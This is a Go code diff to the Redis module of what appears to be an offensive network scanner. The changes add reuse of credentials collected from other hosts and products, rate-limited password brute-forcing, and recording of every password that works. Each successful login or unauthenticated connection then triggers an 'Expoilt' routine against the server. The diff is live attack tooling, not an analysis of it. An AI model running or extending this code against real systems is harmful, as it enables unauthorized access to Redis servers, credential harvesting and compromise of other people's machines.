@@ -18,6 +18,16 @@ var (
 
 func RedisScan(info *common.HostInfo) (tmperr error) {
 	starttime := time.Now().Unix()
+	if common.TryHostCreds(info.Host, "redis", func(user, pass string) (bool, error) {
+		return RedisConn(info, pass)
+	}) {
+		return
+	}
+	if common.TryProductCreds(info.Host, info.Ports, "redis", func(user, pass string) (bool, error) {
+		return RedisConn(info, pass)
+	}) {
+		return
+	}
 	flag, err := RedisUnauth(info)
 	if flag == true && err == nil {
 		return err
@@ -27,6 +37,10 @@ func RedisScan(info *common.HostInfo) (tmperr error) {
 	}
 	for _, pass := range common.Passwords {
 		pass = strings.Replace(pass, "{user}", "redis", -1)
+		if info.Context().Err() != nil {
+			return tmperr
+		}
+		common.BruteLimiter.Wait()
 		flag, err := RedisConn(info, pass)
 		if flag == true && err == nil {
 			return err
@@ -67,6 +81,7 @@ func RedisConn(info *common.HostInfo, pass string) (flag bool, err error) {
 	}
 	if strings.Contains(reply, "+OK") {
 		flag = true
+		common.RecordCred("redis", info.Host, pass)
 		dbfilename, dir, err = getconfig(conn)
 		if err != nil {
 			result := fmt.Sprintf("[+] Redis %s %s", realhost, pass)
@@ -76,6 +91,7 @@ func RedisConn(info *common.HostInfo, pass string) (flag bool, err error) {
 			result := fmt.Sprintf("[+] Redis %s %s file:%s/%s", realhost, pass, dir, dbfilename)
 			common.LogSuccess(result)
 		}
+		common.EndAttempt(conn)
 		err = Expoilt(realhost, conn)
 	}
 	return flag, err
@@ -103,6 +119,7 @@ func RedisUnauth(info *common.HostInfo) (flag bool, err error) {
 	}
 	if strings.Contains(reply, "redis_version") {
 		flag = true
+		common.RecordCred("redis", info.Host, "")
 		dbfilename, dir, err = getconfig(conn)
 		if err != nil {
 			result := fmt.Sprintf("[+] Redis %s unauthorized", realhost)
@@ -112,6 +129,7 @@ func RedisUnauth(info *common.HostInfo) (flag bool, err error) {
 			result := fmt.Sprintf("[+] Redis %s unauthorized file:%s/%s", realhost, dir, dbfilename)
 			common.LogSuccess(result)
 		}
+		common.EndAttempt(conn)
 		err = Expoilt(realhost, conn)
 	}
 	return flag, err